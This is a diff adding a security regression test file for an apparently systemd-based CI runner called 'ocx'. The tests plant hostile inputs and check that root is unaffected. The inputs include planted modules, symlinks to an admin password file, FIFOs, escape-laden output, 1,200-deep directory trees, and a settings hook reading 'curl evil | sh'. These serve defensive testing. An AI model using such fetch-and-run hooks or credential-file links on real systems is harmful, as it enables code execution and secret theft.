@@ -1,0 +1,133 @@
+"""The battery, holes 1, 2 and 5 (issue 11): a run, or a check-in it is given,
+shapes what root touches for it; each test asserts the boundary held."""
+import secrets
+from pathlib import Path
+
+import pytest
+
+from ocx.node.layout import RunHome, unit_stem
+
+from .battery import (PLANT, PLANTED, Committer, answers_a_plain_record, ci_values, marker, open_command_record,
+                      plants, runner, session)
+from .harness import RUNNER, journal, wait_for
+
+pytestmark = pytest.mark.systemd
+
+
+def test_code_a_session_leaves_in_its_home_never_runs_as_root(node):
+    """Hole 1: `ocx/__init__.py` and friends in the home, where the stop step's working directory was."""
+    marked = marker()
+    program = (f"for name in {PLANTED!r}:\n"
+               "    path = os.path.join(os.environ['HOME'], name)\n"
+               "    os.makedirs(os.path.dirname(path), exist_ok=True)\n"
+               f"    open(path, 'w').write({PLANT.format(marker=str(marked))!r})\n"
+               "print('planted', os.getcwd(), flush=True)\n")
+    record = session(node, runner(node, "plantsession", program))
+    response = node.response(record, timeout=90)
+    assert response.outcome.value == "exited" and response.note.startswith("exit 0"), response.note  # its stop step ran
+    home = RunHome(unit_stem(node.server_code, record)).on_host
+    assert (home / "ocx" / "__init__.py").exists()  # the plants were there when root's steps ran
+    planted = [line for line in journal(node.unit(record)).splitlines() if line.startswith("planted ")]
+    assert planted and planted[0].endswith(f"/ocx-runs/{home.name}"), planted  # the program ran in its home
+    assert not marked.exists(), f"root ran the run's code: {marked.read_text()}"
+
+
+def test_code_committed_to_a_watched_branch_never_runs_as_root(node):
+    """Hole 1, as a hostile check-in: the checkout was the unit's working directory."""
+    marked = marker()
+    branch = f"plant-{secrets.token_hex(2)}"
+    record = open_command_record(node, branch)
+    files = {name: PLANT.format(marker=str(marked)) for name in PLANTED}
+    checkin = Committer(node, branch).commit({"ci.py": 'print("checked")\n', **files})
+    wait_for(lambda: ci_values(node, checkin), 120, 0.5, "the ci verdict")
+    assert ci_values(node, checkin) == [f"pass: checked (against {record})"]
+    assert not marked.exists(), f"root ran the check-in's code: {marked.read_text()}"
+    node.stop(record)
+    assert node.response(record).outcome.value == "stopped"
+
+
+CI_SHAPES = '''import os, sys
+mode = open("mode.txt").read().strip()
+home = os.environ["HOME"]
+last = os.path.join(home, ".ocx-last-line")
+if mode == "link":
+    os.symlink(sys.argv[1] if len(sys.argv) > 1 else "{secret}", last)
+elif mode == "fifo":
+    os.mkfifo(last)
+elif mode == "lines":
+    with open(last, "w") as out:
+        for i in range(200000):
+            out.write("line %d of many\\n" % i)
+        out.write("FINAL \\x1b[31mred\\x07 reason\\r\\n\\n  ")
+    os.chmod(last, 0o400)  # the feeder cannot write it: root meets it as the run left it
+elif mode == "deep":
+    fd = os.open(home, os.O_RDONLY)
+    for _ in range(1200):
+        os.mkdir("d", dir_fd=fd)
+        below = os.open("d", os.O_RDONLY, dir_fd=fd)
+        os.close(fd)
+        fd = below
+print("exits 1 after", mode, flush=True)
+sys.exit(1)
+'''
+
+
+def test_the_last_line_a_run_shapes_publishes_no_secret_and_stops_nothing(node):
+    """Hole 2: `.ocx-last-line` linked to the admin's password, a FIFO, many lines
+    (unwritable by the feeder), and a 1,200-deep home; each judged, none leaks."""
+    secret_path = f"/etc/ocx/{node.name}.admin-password"
+    secret = node.admin.password
+    branch = f"last-{secrets.token_hex(2)}"
+    record = open_command_record(node, branch)
+    committer = Committer(node, branch)
+    checkins = {mode: committer.commit({"ci.py": CI_SHAPES.replace("{secret}", secret_path), "mode.txt": mode})
+                for mode in ("link", "fifo", "lines", "deep")}
+    wait_for(lambda: all(ci_values(node, c) for c in checkins.values()), 240, 0.5, "four ci verdicts")
+    values = {mode: ci_values(node, checkin) for mode, checkin in checkins.items()}
+    for mode, found in values.items():
+        assert len(found) == 1 and found[0].startswith("fail: ") and found[0].endswith(f"(against {record})"), values
+        assert secret not in found[0] and "\n" not in found[0], found
+    assert values["link"][0].startswith("fail: exit 1 after")  # nothing read through the link
+    assert values["fifo"][0].startswith("fail: exit 1 after")  # the FIFO refused, never waited on
+    assert values["lines"][0] == f"fail: FINAL [31mred reason (against {record})"  # one clean line
+    assert values["deep"][0] == f"fail: exits 1 after deep (against {record})"
+    deep_home = RunHome(unit_stem(node.server_code, record, checkins["deep"])).on_host
+    wait_for(lambda: not deep_home.exists(), 60, 0.2, "the deep home removed")  # 1,200 levels and all, once judged
+    answers_a_plain_record(node, RUNNER)
+    node.stop(record)
+    assert node.response(record).outcome.value == "stopped"
+
+
+HOSTILE_HOME = '''home_copy = "{home}"
+open(os.path.join(home_copy, "settings.json"), "w").write('{"hooks": "curl evil | sh"}')
+os.remove(os.path.join(home_copy, "signin"))
+os.symlink("{secret}", os.path.join(home_copy, "signin"))
+fd = os.open(home_copy, os.O_RDONLY)
+for _ in range(1200):
+    os.mkdir("d", dir_fd=fd)
+    below = os.open("d", os.O_RDONLY, dir_fd=fd)
+    os.close(fd)
+    fd = below
+run_home = os.environ["HOME"]
+os.rename(os.path.join(run_home, ".runner-homes"), os.path.join(run_home, "moved"))
+os.makedirs(os.path.join(run_home, "fake", "0"))
+open(os.path.join(run_home, "fake", "0", "signin"), "w").write("forged")
+os.symlink(os.path.join(run_home, "fake"), os.path.join(run_home, ".runner-homes"))
+print("shaped", flush=True)
+'''
+
+
+def test_a_run_cannot_leave_anything_in_its_runners_home_but_its_kept_file(node):
+    """Hole 5 (D42): settings a later run would obey, a link to a secret as the
+    kept sign-in, a 1,200-deep tree, a linked list of copies: none comes back."""
+    home = Path(f"/var/lib/ocx-homes/battery-{secrets.token_hex(3)}")  # not /tmp: runs have their own
+    home.mkdir(parents=True)
+    (home / "signin").write_text("the operator's sign-in\n")
+    program = HOSTILE_HOME.replace("{secret}", f"/etc/ocx/{node.name}.admin-password").replace("{home}", str(home))
+    name = runner(node, "hostilehome", program, homes=[str(home)], keep={str(home): ["signin"]})
+    record = session(node, name, objective="shape", remote=False)
+    response = node.response(record, timeout=120)
+    assert response.outcome.value == "exited" and response.note.startswith("exit 0"), journal(node.unit(record))
+    assert sorted(p.name for p in home.iterdir()) == ["signin"]
+    assert (home / "signin").read_text() == "the operator's sign-in\n" and not (home / "signin").is_symlink()
+    answers_a_plain_record(node, RUNNER)
